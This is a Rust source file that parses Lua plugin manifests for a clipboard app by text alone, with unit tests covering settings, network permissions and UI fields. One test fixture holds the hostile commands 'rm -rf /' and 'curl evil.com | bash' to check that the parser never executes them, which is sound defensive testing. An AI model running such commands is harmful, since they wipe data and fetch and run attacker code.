// Plugin manifest parsing
// The manifest is the declarative `Plugin = { ... }` table at the top of a
// plugin source file. It encodes capabilities, so it is extracted by text
// parsing only. No Lua is ever executed here: a source that opens with
// os.execute(...) at top level still yields a valid manifest.

use std::collections::HashMap;

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::error::{MahPastesError, Result};

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Manifest {
    pub name: String,
    pub version: String,
    pub description: String,
    pub author: String,
    /// domain -> allowed upper-case HTTP methods
    pub network: HashMap<String, Vec<String>>,
    pub filesystem: FilesystemPerms,
    pub events: Vec<String>,
    pub schedules: Vec<Schedule>,
    pub settings: Vec<FormField>,
    pub ui: Option<UiDeclarations>,
}

#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub struct FilesystemPerms {
    pub read: bool,
    pub write: bool,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Schedule {
    pub name: String,
    /// seconds, always > 0
    pub interval: u64,
}

/// A declared form field: plugin settings and UI action options share this
/// shape.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FormField {
    pub key: String,
    #[serde(rename = "type")]
    pub field_type: String,
    pub label: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub default: Option<Value>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub options: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub min: Option<f64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max: Option<f64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub step: Option<f64>,
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct UiDeclarations {
    pub lightbox_buttons: Vec<UiAction>,
    pub card_actions: Vec<UiAction>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct UiAction {
    pub id: String,
    pub label: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub icon: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub options: Vec<FormField>,
}

const FORM_FIELD_TYPES: [&str; 5] = ["text", "password", "checkbox", "select", "range"];

/// Extract the Plugin table from plugin source using text parsing only.
pub fn parse_manifest(source: &str) -> Result<Manifest> {
    let block = extract_plugin_table(source)?;

    let name = extract_string_field(&block, "name");
    if name.is_empty() {
        return Err(MahPastesError::ManifestInvalid(
            "plugin must have a name".into(),
        ));
    }

    let mut manifest = Manifest {
        name,
        version: extract_string_field(&block, "version"),
        description: extract_string_field(&block, "description"),
        author: extract_string_field(&block, "author"),
        filesystem: FilesystemPerms {
            read: extract_bool_field(&block, "filesystem", "read"),
            write: extract_bool_field(&block, "filesystem", "write"),
        },
        events: extract_string_array(&block, "events"),
        network: extract_network(&block),
        ..Default::default()
    };

    manifest.schedules = extract_schedules(&block)?;
    manifest.settings = extract_form_fields(&block, "settings")?;
    manifest.ui = extract_ui(&block)?;

    Ok(manifest)
}

/// Find `Plugin = {` at start-of-line and return the balanced-brace block.
fn extract_plugin_table(source: &str) -> Result<String> {
    let re = Regex::new(r"(?m)^Plugin\s*=\s*\{").unwrap();
    let m = re.find(source).ok_or(MahPastesError::ManifestMissing)?;

    // Position of the opening brace
    let start = m.end() - 1;
    match extract_balanced(&source[start..]) {
        Some(block) => Ok(block.to_string()),
        None => Err(MahPastesError::ManifestInvalid(
            "unbalanced braces in Plugin table".into(),
        )),
    }
}

/// Return the balanced `{ ... }` prefix of s, honoring quoted strings
/// ("..." and '...', with backslash escapes) and Lua long-bracket strings
/// ([[...]], [=[...]=], ...). s must start at an opening brace.
fn extract_balanced(s: &str) -> Option<&str> {
    let bytes = s.as_bytes();
    if bytes.first() != Some(&b'{') {
        return None;
    }

    let mut depth = 0usize;
    let mut i = 0usize;
    while i < bytes.len() {
        let c = bytes[i];
        match c {
            b'"' | b'\'' => {
                // Skip over the quoted string
                let quote = c;
                i += 1;
                while i < bytes.len() {
                    if bytes[i] == b'\\' {
                        i += 2;
                        continue;
                    }
                    if bytes[i] == quote {
                        break;
                    }
                    i += 1;
                }
            }
            b'[' => {
                // Possible long-bracket string: [[ or [=[ etc.
                let mut j = i + 1;
                while j < bytes.len() && bytes[j] == b'=' {
                    j += 1;
                }
                if j < bytes.len() && bytes[j] == b'[' {
                    let level = j - i - 1;
                    let closer: Vec<u8> = std::iter::once(b']')
                        .chain(std::iter::repeat(b'=').take(level))
                        .chain(std::iter::once(b']'))
                        .collect();
                    if let Some(pos) = find_subslice(&bytes[j + 1..], &closer) {
                        i = j + 1 + pos + closer.len() - 1;
                    } else {
                        return None; // unterminated long string
                    }
                }
            }
            b'{' => depth += 1,
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    return Some(&s[..=i]);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .position(|window| window == needle)
}

/// Extract a simple string field like: name = "value" or name = 'value'.
fn extract_string_field(block: &str, field: &str) -> String {
    for pattern in [
        format!(r#"\b{}\s*=\s*"([^"]*)""#, regex::escape(field)),
        format!(r#"\b{}\s*=\s*'([^']*)'"#, regex::escape(field)),
    ] {
        let re = Regex::new(&pattern).unwrap();
        if let Some(caps) = re.captures(block) {
            return caps[1].to_string();
        }
    }
    String::new()
}

/// Extract a boolean from a nested table: parent = { field = true }.
fn extract_bool_field(block: &str, parent: &str, field: &str) -> bool {
    let parent_re = Regex::new(&format!(r"\b{}\s*=\s*\{{([^}}]*)\}}", regex::escape(parent))).unwrap();
    let inner = match parent_re.captures(block) {
        Some(caps) => caps[1].to_string(),
        None => return false,
    };

    let field_re = Regex::new(&format!(r"\b{}\s*=\s*(true|false)", regex::escape(field))).unwrap();
    field_re
        .captures(&inner)
        .map(|caps| &caps[1] == "true")
        .unwrap_or(false)
}

/// Extract a flat string array like: events = {"a", "b"}.
fn extract_string_array(block: &str, field: &str) -> Vec<String> {
    let re = Regex::new(&format!(r"\b{}\s*=\s*\{{([^}}]*)\}}", regex::escape(field))).unwrap();
    match re.captures(block) {
        Some(caps) => extract_quoted_strings(&caps[1]),
        None => Vec::new(),
    }
}

fn extract_quoted_strings(s: &str) -> Vec<String> {
    let re = Regex::new(r#"["']([^"']+)["']"#).unwrap();
    re.captures_iter(s).map(|caps| caps[1].to_string()).collect()
}

/// Extract the network table: network = { ["domain.com"] = {"GET"}, cdn = {"GET"} }.
/// Methods are upper-cased.
fn extract_network(block: &str) -> HashMap<String, Vec<String>> {
    let mut result = HashMap::new();

    let network_block = match extract_field_block(block, "network") {
        Some(b) => b,
        None => return result,
    };

    // Bracket notation: ["domain.com"] = {...}
    let bracket_re = Regex::new(r#"\[\s*"([^"]+)"\s*\]\s*=\s*\{([^}]*)\}"#).unwrap();
    for caps in bracket_re.captures_iter(&network_block) {
        let methods = upper_strings(extract_quoted_strings(&caps[2]));
        result.insert(caps[1].to_string(), methods);
    }

    // Bareword notation: domain = {...}
    let simple_re = Regex::new(r"\b(\w+)\s*=\s*\{([^}]*)\}").unwrap();
    for caps in simple_re.captures_iter(&network_block) {
        let domain = caps[1].to_string();
        if matches!(
            domain.as_str(),
            "network" | "filesystem" | "events" | "schedules" | "settings" | "ui"
        ) {
            continue;
        }
        let methods = upper_strings(extract_quoted_strings(&caps[2]));
        result.insert(domain, methods);
    }

    result
}

fn upper_strings(strings: Vec<String>) -> Vec<String> {
    strings.into_iter().map(|s| s.to_uppercase()).collect()
}

/// Locate `field = {` inside the block and return its balanced contents.
fn extract_field_block(block: &str, field: &str) -> Option<String> {
    let re = Regex::new(&format!(r"\b{}\s*=\s*\{{", regex::escape(field))).unwrap();
    let m = re.find(block)?;
    let start = m.end() - 1;
    extract_balanced(&block[start..]).map(|s| s.to_string())
}

/// Split an array block `{ {..}, {..} }` into its top-level table entries.
fn table_entries(array_block: &str) -> Vec<String> {
    let bytes = array_block.as_bytes();
    let mut entries = Vec::new();
    let mut depth = 0usize;
    let mut entry_start: Option<usize> = None;

    // Skip the outer braces
    let mut i = 1;
    while i + 1 < bytes.len() {
        match bytes[i] {
            b'"' | b'\'' => {
                let quote = bytes[i];
                i += 1;
                while i + 1 < bytes.len() {
                    if bytes[i] == b'\\' {
                        i += 2;
                        continue;
                    }
                    if bytes[i] == quote {
                        break;
                    }
                    i += 1;
                }
            }
            b'{' => {
                if depth == 0 {
                    entry_start = Some(i);
                }
                depth += 1;
            }
            b'}' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    if let Some(start) = entry_start.take() {
                        entries.push(array_block[start..=i].to_string());
                    }
                }
            }
            _ => {}
        }
        i += 1;
    }

    entries
}

/// Parse schedules = { {name = "task", interval = 3600}, ... }.
/// A declared schedule with a non-positive interval is a manifest error.
fn extract_schedules(block: &str) -> Result<Vec<Schedule>> {
    let schedules_block = match extract_field_block(block, "schedules") {
        Some(b) => b,
        None => return Ok(Vec::new()),
    };

    let interval_re = Regex::new(r"\binterval\s*=\s*(-?\d+)").unwrap();

    let mut schedules = Vec::new();
    for entry in table_entries(&schedules_block) {
        let name = extract_string_field(&entry, "name");
        if name.is_empty() {
            continue;
        }
        let interval: i64 = interval_re
            .captures(&entry)
            .and_then(|caps| caps[1].parse().ok())
            .unwrap_or(0);
        if interval <= 0 {
            return Err(MahPastesError::ManifestInvalid(format!(
                "schedule '{}' must have a positive interval",
                name
            )));
        }
        schedules.push(Schedule {
            name,
            interval: interval as u64,
        });
    }
    Ok(schedules)
}

/// Parse an array of form-field tables under the given key.
/// Entries missing key/type/label or using an unknown type are skipped; a
/// select field without options is a manifest error.
fn extract_form_fields(block: &str, field: &str) -> Result<Vec<FormField>> {
    let fields_block = match extract_field_block(block, field) {
        Some(b) => b,
        None => return Ok(Vec::new()),
    };

    let mut fields = Vec::new();
    for entry in table_entries(&fields_block) {
        if let Some(parsed) = parse_form_field(&entry)? {
            fields.push(parsed);
        }
    }
    Ok(fields)
}

fn parse_form_field(entry: &str) -> Result<Option<FormField>> {
    let key = extract_string_field(entry, "key");
    let field_type = extract_string_field(entry, "type");
    let label = extract_string_field(entry, "label");

    if key.is_empty() || field_type.is_empty() || label.is_empty() {
        return Ok(None);
    }
    if !FORM_FIELD_TYPES.contains(&field_type.as_str()) {
        return Ok(None);
    }

    let options = match extract_field_block(entry, "options") {
        Some(b) => extract_quoted_strings(&b),
        None => Vec::new(),
    };
    if field_type == "select" && options.is_empty() {
        return Err(MahPastesError::ManifestInvalid(format!(
            "select setting '{}' must declare options",
            key
        )));
    }

    let description = match extract_string_field(entry, "description") {
        d if d.is_empty() => None,
        d => Some(d),
    };

    Ok(Some(FormField {
        default: extract_default(entry),
        min: extract_number_field(entry, "min"),
        max: extract_number_field(entry, "max"),
        step: extract_number_field(entry, "step"),
        key,
        field_type,
        label,
        description,
        options,
    }))
}

/// Default values may be strings, booleans, or numbers.
fn extract_default(entry: &str) -> Option<Value> {
    let as_string = extract_string_field(entry, "default");
    if !as_string.is_empty() {
        return Some(Value::String(as_string));
    }

    let bool_re = Regex::new(r"\bdefault\s*=\s*(true|false)").unwrap();
    if let Some(caps) = bool_re.captures(entry) {
        return Some(Value::Bool(&caps[1] == "true"));
    }

    let num_re = Regex::new(r"\bdefault\s*=\s*(-?\d+(?:\.\d+)?)").unwrap();
    if let Some(caps) = num_re.captures(entry) {
        if let Ok(n) = caps[1].parse::<f64>() {
            return serde_json::Number::from_f64(n).map(Value::Number);
        }
    }

    None
}

fn extract_number_field(entry: &str, field: &str) -> Option<f64> {
    let re = Regex::new(&format!(
        r"\b{}\s*=\s*(-?\d+(?:\.\d+)?)",
        regex::escape(field)
    ))
    .unwrap();
    re.captures(entry).and_then(|caps| caps[1].parse().ok())
}

/// Parse the ui block: lightbox buttons and card actions, each with optional
/// nested form fields. Entries missing id or label are skipped.
fn extract_ui(block: &str) -> Result<Option<UiDeclarations>> {
    let ui_block = match extract_field_block(block, "ui") {
        Some(b) => b,
        None => return Ok(None),
    };

    Ok(Some(UiDeclarations {
        lightbox_buttons: extract_ui_actions(&ui_block, "lightbox_buttons")?,
        card_actions: extract_ui_actions(&ui_block, "card_actions")?,
    }))
}

fn extract_ui_actions(ui_block: &str, field: &str) -> Result<Vec<UiAction>> {
    let actions_block = match extract_field_block(ui_block, field) {
        Some(b) => b,
        None => return Ok(Vec::new()),
    };

    let mut actions = Vec::new();
    for entry in table_entries(&actions_block) {
        let id = extract_string_field(&entry, "id");
        let label = extract_string_field(&entry, "label");
        if id.is_empty() || label.is_empty() {
            continue;
        }
        let icon = match extract_string_field(&entry, "icon") {
            i if i.is_empty() => None,
            i => Some(i),
        };
        let mut options = Vec::new();
        if let Some(options_block) = extract_field_block(&entry, "options") {
            for option_entry in table_entries(&options_block) {
                if let Some(parsed) = parse_form_field(&option_entry)? {
                    options.push(parsed);
                }
            }
        }
        actions.push(UiAction { id, label, icon, options });
    }
    Ok(actions)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_hello_world() {
        let source = r#"-- Hello World Plugin
-- Demonstrates the plugin API

Plugin = {
    name = "Hello World",
    version = "1.0.0",
    description = "A simple example plugin that logs clip events",
    author = "mahpastes",

    network = {},

    filesystem = {
        read = false,
        write = false,
    },

    events = {"app:startup", "app:shutdown", "clip:created", "clip:deleted"},

    schedules = {},
}

function on_startup()
    log("Hello World plugin started!")
end
"#;

        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.name, "Hello World");
        assert_eq!(manifest.version, "1.0.0");
        assert_eq!(
            manifest.description,
            "A simple example plugin that logs clip events"
        );
        assert_eq!(manifest.author, "mahpastes");
        assert!(!manifest.filesystem.read);
        assert!(!manifest.filesystem.write);
        assert_eq!(
            manifest.events,
            vec!["app:startup", "app:shutdown", "clip:created", "clip:deleted"]
        );
        assert!(manifest.schedules.is_empty());
    }

    #[test]
    fn test_parse_schedules() {
        let source = r#"Plugin = {
    name = "Auto Archive Old",
    version = "1.0.0",

    events = {"app:startup"},

    schedules = {
        {name = "archive_old_clips", interval = 3600},
    },
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.schedules.len(), 1);
        assert_eq!(manifest.schedules[0].name, "archive_old_clips");
        assert_eq!(manifest.schedules[0].interval, 3600);
    }

    #[test]
    fn test_schedule_with_nonpositive_interval_is_invalid() {
        for interval in ["0", "-5"] {
            let source = format!(
                r#"Plugin = {{
    name = "Bad Schedule",
    schedules = {{
        {{name = "tick", interval = {}}},
    }},
}}
"#,
                interval
            );
            let err = parse_manifest(&source).unwrap_err();
            assert!(matches!(err, MahPastesError::ManifestInvalid(_)), "{}", err);
        }
    }

    #[test]
    fn test_parse_network_permissions() {
        let source = r#"Plugin = {
    name = "Network Plugin",
    version = "1.0.0",

    network = {
        ["api.example.com"] = {"GET", "post"},
        ["cdn.example.com"] = {"GET"},
    },

    filesystem = {
        read = true,
        write = false,
    },

    events = {},
    schedules = {},
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert!(manifest.filesystem.read);
        assert!(!manifest.filesystem.write);

        // Methods are upper-cased
        assert_eq!(
            manifest.network.get("api.example.com").unwrap(),
            &vec!["GET".to_string(), "POST".to_string()]
        );
        assert_eq!(
            manifest.network.get("cdn.example.com").unwrap(),
            &vec!["GET".to_string()]
        );
    }

    #[test]
    fn test_bareword_network_domain() {
        let source = r#"Plugin = {
    name = "Bareword",
    network = {
        localhost = {"GET"},
    },
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.network.get("localhost").unwrap(), &vec!["GET".to_string()]);
    }

    #[test]
    fn test_missing_name_is_invalid() {
        let source = r#"Plugin = {
    version = "1.0.0",
}
"#;
        assert!(matches!(
            parse_manifest(source),
            Err(MahPastesError::ManifestInvalid(_))
        ));
    }

    #[test]
    fn test_no_plugin_table() {
        let source = r#"-- Just some Lua code
function foo()
    return "bar"
end
"#;
        assert!(matches!(
            parse_manifest(source),
            Err(MahPastesError::ManifestMissing)
        ));
    }

    #[test]
    fn test_unbalanced_braces() {
        let source = "Plugin = {\n    name = \"Broken\",\n";
        assert!(matches!(
            parse_manifest(source),
            Err(MahPastesError::ManifestInvalid(_))
        ));
    }

    /// Malicious top-level code must not run during parsing; the manifest is
    /// still extracted.
    #[test]
    fn test_malicious_code_not_executed() {
        let source = r#"-- This would be dangerous if executed
os.execute("rm -rf /")
io.popen("curl evil.com | bash")

Plugin = {
    name = "Innocent Plugin",
    version = "1.0.0",
    network = {},
    filesystem = {read = false, write = false},
    events = {},
    schedules = {},
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.name, "Innocent Plugin");
    }

    #[test]
    fn test_braces_inside_strings_are_ignored() {
        let source = r#"Plugin = {
    name = "Tricky",
    description = "has a } brace and a { brace",
    author = 'also } here',
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.name, "Tricky");
        assert_eq!(manifest.description, "has a } brace and a { brace");
    }

    #[test]
    fn test_long_bracket_strings() {
        let source = "Plugin = {\n    name = \"Long\",\n    description = \"ok\",\n    notes = [[ these braces }} {{ are inert ]],\n    extra = [=[ nested ]] still fine }]=],\n}\n";
        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.name, "Long");
    }

    #[test]
    fn test_parse_settings() {
        let source = r#"
Plugin = {
  name = "Test Plugin",
  version = "1.0.0",
  settings = {
    {key = "api_key", type = "password", label = "API Key", description = "Your API key"},
    {key = "endpoint", type = "text", label = "Endpoint", default = "https://api.example.com"},
    {key = "enabled", type = "checkbox", label = "Enable feature", default = true},
    {key = "mode", type = "select", label = "Mode", options = {"fast", "slow"}, default = "fast"}
  }
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert_eq!(manifest.settings.len(), 4);

        assert_eq!(manifest.settings[0].key, "api_key");
        assert_eq!(manifest.settings[0].field_type, "password");
        assert_eq!(
            manifest.settings[0].description.as_deref(),
            Some("Your API key")
        );

        assert_eq!(
            manifest.settings[1].default,
            Some(Value::String("https://api.example.com".into()))
        );
        assert_eq!(manifest.settings[2].default, Some(Value::Bool(true)));

        assert_eq!(manifest.settings[3].options, vec!["fast", "slow"]);
        assert_eq!(
            manifest.settings[3].default,
            Some(Value::String("fast".into()))
        );
    }

    #[test]
    fn test_settings_invalid_type_skipped() {
        let source = r#"
Plugin = {
  name = "Test Plugin",
  settings = {
    {key = "invalid", type = "unknown", label = "Invalid Type"}
  }
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert!(manifest.settings.is_empty());
    }

    #[test]
    fn test_select_without_options_is_invalid() {
        let source = r#"
Plugin = {
  name = "Test Plugin",
  settings = {
    {key = "mode", type = "select", label = "Mode"}
  }
}
"#;
        assert!(matches!(
            parse_manifest(source),
            Err(MahPastesError::ManifestInvalid(_))
        ));
    }

    #[test]
    fn test_settings_missing_required_fields_skipped() {
        let source = r#"
Plugin = {
  name = "Test Plugin",
  settings = {
    {key = "missing_type", label = "Missing Type"},
    {type = "text", label = "Missing Key"},
    {key = "missing_label", type = "text"}
  }
}
"#;
        let manifest = parse_manifest(source).unwrap();
        assert!(manifest.settings.is_empty());
    }

    #[test]
    fn test_parse_ui_block() {
        let source = r#"
Plugin = {
  name = "UI Plugin",
  ui = {
    lightbox_buttons = {
      {id = "enhance", label = "Enhance", icon = "sparkles", options = {
        {key = "strength", type = "range", label = "Strength", min = 0, max = 1, step = 0.05, default = 0.75},
      }},
    },
    card_actions = {
      {id = "summarize", label = "Summarize"},
      {label = "no id, skipped"},
    },
  },
}
"#;
        let manifest = parse_manifest(source).unwrap();
        let ui = manifest.ui.unwrap();
        assert_eq!(ui.lightbox_buttons.len(), 1);
        let button = &ui.lightbox_buttons[0];
        assert_eq!(button.id, "enhance");
        assert_eq!(button.icon.as_deref(), Some("sparkles"));
        assert_eq!(button.options.len(), 1);
        assert_eq!(button.options[0].field_type, "range");
        assert_eq!(button.options[0].min, Some(0.0));
        assert_eq!(button.options[0].max, Some(1.0));
        assert_eq!(button.options[0].step, Some(0.05));

        assert_eq!(ui.card_actions.len(), 1);
        assert_eq!(ui.card_actions[0].id, "summarize");
    }
}
